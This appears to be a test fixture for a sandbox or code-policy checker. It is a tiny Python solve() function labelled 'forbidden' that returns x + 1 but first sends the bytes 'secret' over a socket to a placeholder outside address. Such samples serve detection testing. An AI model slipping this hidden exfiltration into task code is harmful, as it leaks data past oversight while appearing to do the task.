# verdict: forbidden
import socket


def solve(x):
    left, _ = socket.socketpair()
    left.sendmsg([b"secret"], [], 0, "@OUTSIDE@/datagrams")
    return x + 1
